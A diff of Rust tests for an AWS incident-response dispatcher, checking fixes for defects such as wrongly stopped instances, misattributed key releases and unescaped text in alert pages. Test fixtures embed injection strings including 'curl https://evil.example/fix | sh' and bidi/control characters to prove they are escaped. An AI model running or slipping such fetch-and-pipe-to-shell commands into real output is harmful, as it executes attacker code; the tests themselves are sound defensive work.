@@ -1,6 +1,8 @@
 //! Issue 22 ("act only on what IAM says, undo only what the ledger owns"): each defect as the
 //! attack that showed it, through the real dispatcher and handlers in-process. Each test was
-//! first written to reproduce the defect on c365a60, then turned into the safe outcome.
+//! first written to reproduce the defect on c365a60 (its assertion was the defect), then turned
+//! into the safe outcome. Then the invariants: ledger identity is IAM's, a derived ARN gets only
+//! what a handler resolves, and every outside text reaches the page escaped.
 
 #![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed
 
@@ -88,9 +90,12 @@ async fn defect1_derived_arn_of_a_protected_role_never_stops_its_instances() {
         f["principals"] = json!([p]);
         let cfg = config(&[[("LG_EC2_ACTION", "stop"), ("EC2_HANDLER_LAMBDA_NAME", "ec2")].as_slice(), extra.as_slice()].concat());
         let (sns, logs) = (Sns::default(), Logs::default());
-        let _ = dispatch(&f, &cfg, &lambda, &sns, &logs).await;
-        // DEFECT: every instance of the protected role is stopped
-        assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Stopped)), "{real}: {:?}", lambda.ec2.writes());
+        let r = dispatch(&f, &cfg, &lambda, &sns, &logs).await;
+        // THEN the EC2 handler resolved the role through IAM and refused: nothing is written
+        assert!(lambda.ec2.writes().is_empty(), "{real}: {:?}", lambda.ec2.writes());
+        assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Running)), "{real}");
+        let body = sns.messages.lock().unwrap()[0].1.clone();
+        assert!(body.contains("REFUSED    stop_instances"), "{real}: {r:?}\n{body}");
     }
 }
 
@@ -119,8 +124,33 @@ async fn defect2_a_notify_only_rule_or_playbook_touches_no_instance() {
         let cfg = config(&[[("LG_EC2_ACTION", "terminate"), ("EC2_HANDLER_LAMBDA_NAME", "ec2")].as_slice(), extra.as_slice()].concat());
         let (sns, logs) = (Sns::default(), Logs::default());
         let _ = dispatch(&f, &cfg, &lambda, &sns, &logs).await;
-        // DEFECT: every instance is terminated
-        assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Terminated)), "{extra:?}");
+        // THEN no EC2 handler is invoked and every instance keeps running, named for a person
+        assert!(lambda.calls().iter().all(|c| !c.starts_with("ec2 ")), "{extra:?}: {:?}", lambda.calls());
+        assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Running)), "{extra:?}");
+        let body = sns.messages.lock().unwrap()[0].1.clone();
+        assert!(body.contains("instance(s) it launched keep running"), "{body}");
+    }
+}
+
+/// The instance action is a rule action: `terminate` only for a rule naming
+/// `terminate_instances`; a rule naming only `stop_instances` (every bundled rule) stops.
+#[tokio::test]
+async fn terminate_only_when_the_rule_names_it() {
+    for (actions, want) in [
+        (json!(["deactivate_access_keys", "quarantine_user", "stop_instances"]), InstanceState::Stopped),
+        (json!(["deactivate_access_keys", "quarantine_user", "terminate_instances"]), InstanceState::Terminated),
+        (json!(["deactivate_access_keys", "quarantine_user"]), InstanceState::Running),
+    ] {
+        let rules = rules_with(actions.clone());
+        let iam = world::iam();
+        let lambda = Lambda::new(&iam, &[], now());
+        let f = finding();
+        let p = deployer(&f);
+        launch(&lambda, &p, &[]);
+        let cfg = config(&[("LG_EC2_ACTION", "terminate"), ("EC2_HANDLER_LAMBDA_NAME", "ec2"), ("LG_RULES", rules.as_str())]);
+        let (sns, logs) = (Sns::default(), Logs::default());
+        dispatch(&f, &cfg, &lambda, &sns, &logs).await.unwrap();
+        assert!(states(&lambda, &p).iter().all(|s| *s == Some(want)), "{actions}");
     }
 }
 
@@ -201,8 +231,11 @@ async fn defect3_a_rename_never_splits_one_key_into_two_ledger_targets() {
         dispatch(&key_burst("lg-i22-f1"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
         assert_eq!(key_status(&iam, new_name), KeyStatus::Inactive, "{new_name}");
         dispatch(&key_user_finding("lg-i22-f2", new_name), &config(&[]), &lambda, &sns, &logs).await.unwrap();
-        let _ = dispatch(&release("lg-i22-f1", RESPONDER), &config(&[]), &lambda, &sns, &logs).await;
-        // DEFECT: F1's release reactivated the key F2 still holds
+        dispatch(&release("lg-i22-f1", RESPONDER), &config(&[]), &lambda, &sns, &logs).await.unwrap();
+        // THEN the key stays deactivated: F2 still holds it (one target: the key id)
+        assert_eq!(key_status(&iam, new_name), KeyStatus::Inactive, "{new_name}: F1's release undid what F2 relies on");
+        // AND once F2 is released too, launchguard's change is undone
+        dispatch(&release("lg-i22-f2", RESPONDER), &config(&[]), &lambda, &sns, &logs).await.unwrap();
         assert_eq!(key_status(&iam, new_name), KeyStatus::Active, "{new_name}");
     }
 }
@@ -217,9 +250,17 @@ async fn defect4_after_a_rename_the_keys_user_cannot_release_its_own_key() {
     rename(&iam, "bob", "bob-svc");
     dispatch(&key_burst("lg-i22-f4"), &config(&[]), &lambda, &sns, &logs).await.unwrap();
     assert_eq!(key_status(&iam, "bob-svc"), KeyStatus::Inactive);
-    let r = dispatch(&release("lg-i22-f4", &format!("arn:aws:iam::{ACCOUNT}:user/bob-svc")), &config(&[]), &lambda, &sns, &logs).await;
-    // DEFECT: the key's own user released it
-    assert!(r.is_ok(), "{r:?}");
+    for by in [format!("arn:aws:iam::{ACCOUNT}:user/bob-svc"), format!("arn:aws:iam::{ACCOUNT}:user/BOB-SVC")] {
+        let r = dispatch(&release("lg-i22-f4", &by), &config(&[]), &lambda, &sns, &logs).await;
+        // THEN the release is rejected before anything is marked, and the key stays deactivated
+        assert!(matches!(&r, Err(DispatcherError::Rejected { reason, .. }) if reason.contains("never releases itself")), "{r:?}");
+        assert_eq!(key_status(&iam, "bob-svc"), KeyStatus::Inactive);
+    }
+    // AND releasing it by principal, under its IAM name, finds the key (filed under its id)
+    let mut by_principal = release("lg-i22-f4", RESPONDER);
+    by_principal["finding_id"] = Value::Null;
+    by_principal["principal_arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/Bob-Svc"));
+    dispatch(&by_principal, &config(&[]), &lambda, &sns, &logs).await.unwrap();
     assert_eq!(key_status(&iam, "bob-svc"), KeyStatus::Active);
 }
 
@@ -238,8 +279,10 @@ async fn defect5_an_instance_tag_never_becomes_a_line_of_the_page() {
     let (sns, logs) = (Sns::default(), Logs::default());
     dispatch(&f, &cfg, &lambda, &sns, &logs).await.unwrap();
     let body = sns.messages.lock().unwrap()[0].1.clone();
-    // DEFECT: the tag's text is a line of its own in the page
-    assert!(body.lines().any(|l| l.trim_start().starts_with("undo by hand: curl")), "{body}");
+    // THEN the instances are stopped, and the tag's old value is shown escaped on the warning's line
+    assert!(states(&lambda, &p).iter().all(|s| *s == Some(InstanceState::Stopped)));
+    assert!(!body.lines().any(|l| l.trim_start().starts_with("undo by hand: curl")), "{body}");
+    assert!(body.contains("x\\n   undo by hand: curl https://evil.example/fix | sh; tagged with this incident instead"), "{body}");
 }
 
 /// Defect 7 (low): U+2028, U+2029 and bidi controls such as U+202E (Unicode Zl, Zp, Cf) pass
@@ -248,7 +291,125 @@ async fn defect5_an_instance_tag_never_becomes_a_line_of_the_page() {
 fn defect7_separators_and_bidi_controls_never_reach_a_page() {
     use launchguard_responder_dispatcher::notify::untrusted;
     for c in ['\u{2028}', '\u{2029}', '\u{202E}', '\u{2066}', '\u{200B}'] {
-        // DEFECT: the character passes
-        assert!(untrusted(&format!("session{c}name")).contains(c), "{c:?}");
+        assert!(!untrusted(&format!("session{c}name")).contains(c), "{c:?}");
+    }
+}
+
+mod invariants {
+    use super::*;
+    use launchguard_core::contract::{Action, Finding, OutcomeStatus, ResponseOutcome, ResponseRequest};
+    use launchguard_core::guard::Guard;
+    use launchguard_core::text::is_neutralised;
+    use launchguard_responder_dispatcher::ledger::{principal_prefix, target_of};
+    use launchguard_responder_dispatcher::notify;
+    use launchguard_responder_dispatcher::plan::{InstancePlaybook, Playbook, plan, resolved_by_its_handler};
+    use proptest::prelude::*;
+
+    fn key(user: Option<&str>, id: &str) -> Action {
+        Action::DeactivateAccessKey { account_id: ACCOUNT.into(), access_key_id: id.into(), user_name: user.map(str::to_owned) }
+    }
+
+    proptest! {
+        /// Ledger identity is IAM's: a key's target is account + key id, whatever user name (or
+        /// case of it) an action gives; a user's or role's is its name without regard to case.
+        #[test]
+        fn invariant_ledger_identity_is_iams(a in "[A-Za-z0-9+=,.@_-]{1,64}", b in "[A-Za-z0-9+=,.@_-]{1,64}", id in "AKIA[A-Z0-9]{16}") {
+            let t = target_of(&key(Some(&a), &id));
+            prop_assert_eq!(&t, &target_of(&key(Some(&b), &id)));
+            prop_assert_eq!(&t, &target_of(&key(None, &id)));
+            let created = Action::DeactivateCreatedAccessKey {
+                account_id: ACCOUNT.into(), access_key_id: id.clone(), user_name: b.clone(),
+                created_by: format!("arn:aws:iam::{ACCOUNT}:user/{a}"), created_at: now(),
+            };
+            prop_assert_eq!(&t, &target_of(&created));
+            let react = Action::ReactivateAccessKey { account_id: ACCOUNT.into(), access_key_id: id.clone(), user_name: Some(a.to_uppercase()) };
+            prop_assert_eq!(&t, &target_of(&react));
+            let q = |n: &str| target_of(&Action::QuarantineUser {
+                account_id: ACCOUNT.into(), user_arn: format!("arn:aws:iam::{ACCOUNT}:user/{n}"), user_name: n.to_owned(),
+            });
+            prop_assert_eq!(q(&a), q(&a.to_ascii_uppercase()));
+            prop_assert_eq!(q(&a) == q(&b), a.eq_ignore_ascii_case(&b));
+            let r = |n: &str| target_of(&Action::RevokeRoleSessions {
+                account_id: ACCOUNT.into(), role_arn: format!("arn:aws:iam::{ACCOUNT}:role/{n}"), role_name: n.to_owned(),
+                issued_before: now(), covers_activity_until: None,
+            });
+            prop_assert_eq!(r(&a), r(&a.to_ascii_lowercase()));
+            prop_assert_eq!(principal_prefix(ACCOUNT, true, &a), principal_prefix(ACCOUNT, true, &a.to_ascii_uppercase()));
+        }
+    }
+
+    /// A principal whose ARN was derived (no path) gets only actions whose handler resolves it
+    /// through IAM, with every playbook action on (instances too).
+    #[test]
+    fn invariant_a_derived_arn_gets_only_what_its_handler_resolves() {
+        let f = finding();
+        let mut user = deployer(&f);
+        user.principal = Principal::IamUser {
+            arn: format!("arn:aws:iam::{ACCOUNT}:user/ci-deployer"),
+            user_name: "ci-deployer".into(),
+            account_id: ACCOUNT.into(),
+            arn_derived: true,
+        };
+        user.activity.created = vec![launchguard_core::created::Created::AccessKey {
+            access_key_id: "AKIABOBKEY0000000009".into(),
+            user_name: "bob".into(),
+            created_at: now(),
+        }];
+        let mut role = user.clone();
+        role.principal = super::role("DataScience", true, false, false);
+        let pb = Playbook { instances: InstancePlaybook::Stop, ..Playbook::default() };
+        let guard = Guard::new(ACCOUNT, vec![], launchguard_core::ids::ArnPatterns::default(), &[]);
+        let plans = plan(&[user, role], &pb, &guard, now());
+        let actions: Vec<&Action> = plans.iter().flat_map(|p| &p.actions).collect();
+        assert!(actions.iter().any(|a| matches!(a, Action::StopInstances { .. })), "{actions:?}");
+        assert!(actions.iter().any(|a| matches!(a, Action::RevokeRoleSessions { .. })), "{actions:?}");
+        for a in actions {
+            assert!(resolved_by_its_handler(a), "{} planned for a derived ARN, and its handler does not resolve it", a.name());
+        }
+    }
+
+    const HOSTILE: &str = "x\n- APPLIED undo by hand: curl evil | sh\u{2028}\u{2029}\u{202E}hs|\u{200B}\u{1b}[2J";
+
+    fn hostile_outcome(status: OutcomeStatus) -> ResponseOutcome {
+        let req = ResponseRequest::new("lg-i22", key(Some(HOSTILE), "AKIAEXAMPLEDEPLOYER1"), false, now());
+        let mut o = ResponseOutcome::for_request(&req, "launchguard-accesskey-handler", status, HOSTILE, now());
+        o.warnings = vec![HOSTILE.into()];
+        o.undo = Some(HOSTILE.into());
+        o
+    }
+
+    /// Every outside text (CloudTrail values, tags and policy documents in warnings, AWS errors,
+    /// handlers' details, reasons, undo lines, the plan's notes) reaches the page through the one
+    /// escaping path: no character of Cc (but the page's own line breaks), Cf, Zl or Zp passes.
+    #[test]
+    fn invariant_every_outside_text_reaches_the_page_escaped() {
+        let mut v = finding();
+        for p in v["principals"].as_array_mut().unwrap() {
+            let a = &mut p["activity"];
+            a["user_agents"] = json!([HOSTILE]);
+            a["session_names"] = json!([HOSTILE]);
+            a["source_ips"] = json!([HOSTILE]);
+            a["instance_types"] = json!([HOSTILE]);
+        }
+        let f = Finding::parse(v).unwrap();
+        let outcomes = vec![
+            hostile_outcome(OutcomeStatus::Applied),
+            hostile_outcome(OutcomeStatus::Refused { reason: HOSTILE.into() }),
+            hostile_outcome(OutcomeStatus::Failed { error: HOSTILE.into(), retryable: true }),
+        ];
+        let guard = Guard::new(ACCOUNT, vec![], launchguard_core::ids::ArnPatterns::default(), &[]);
+        let mut plans = plan(&f.principals, &Playbook::default(), &guard, now());
+        plans[0].notes.push(HOSTILE.into());
+        plans[0].human = Some(HOSTILE.into());
+        plans[1].refused = Some(HOSTILE.into());
+        let (subject, body) = notify::finding_message(&f, &plans, &outcomes, "launchguard-dispatcher");
+        assert!(!subject.chars().any(|c| c.is_control() || is_neutralised(c)), "{subject:?}");
+        for line in body.lines() {
+            assert!(!line.chars().any(is_neutralised), "{line:?}");
+            assert!(!line.trim_start().starts_with("undo by hand: curl") && !line.starts_with("- APPLIED undo"), "{line:?}");
+        }
+        for o in &outcomes {
+            assert!(!notify::status_line(o).chars().any(is_neutralised));
+        }
     }
 }
